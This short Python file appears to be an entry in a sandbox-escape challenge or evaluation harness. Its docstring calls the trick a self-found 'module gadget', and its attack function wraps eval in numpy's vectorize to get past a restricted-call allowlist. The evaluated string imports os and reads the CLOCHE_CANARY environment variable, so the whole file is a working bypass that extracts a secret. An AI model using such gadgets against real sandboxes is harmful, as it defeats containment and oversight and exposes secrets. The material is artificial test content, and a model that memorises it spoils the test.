"""Class: module gadget. Source: own find. Escape: vectorize calls what is not listed."""

import numpy as np


def attack(model, tokenizer, address):
    return np.vectorize(eval)(["__import__('os').environ['CLOCHE_CANARY']"]).tolist()
